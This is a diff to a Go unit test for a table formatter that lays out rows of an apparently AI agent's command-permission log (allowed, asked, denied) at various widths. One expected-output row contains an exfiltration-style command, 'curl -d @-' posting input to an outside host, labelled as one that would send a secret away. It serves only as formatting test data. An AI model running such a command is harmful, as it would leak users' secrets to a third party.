@@ -37,6 +37,16 @@ func TestTable(t *testing.T) {
 			t.Errorf("%d: the id is cut:\n%s", width, &b)
 		}
 	}
+	// Shorter rows fit a line only if little is left of each column: the id has its own.
+	short := &Table{Flexible: []int{2, 3}}
+	short.Row("11-24 15:59:07", "ask", "run npm publish --tag x (+1)", "publishes the package", "01a20e48-47e8-7c09-b812-951b49764860")
+	var b bytes.Buffer
+	if err := short.write(&b, 80); err != nil {
+		t.Fatal(err)
+	}
+	if got := b.String(); !strings.Contains(got, "run npm publish --tag x (+1)  publishes the package\n") {
+		t.Errorf("nothing can be read:\n%s", got)
+	}
 	want := map[int]string{
 		0: `11-23 20:48:26  allow      run git status                                        only looks at the project  01a209f2-9f88-7daa-b9b7-1227f0f5bc93
 11-23 20:48:27  deny, ran  run curl -d @- https://x.dev/ä/xxxxxxxxxxxxxxxx (+3)  would send a secret away   01a209f2-9f88-7daa-b9b7-1227f0f5bc94
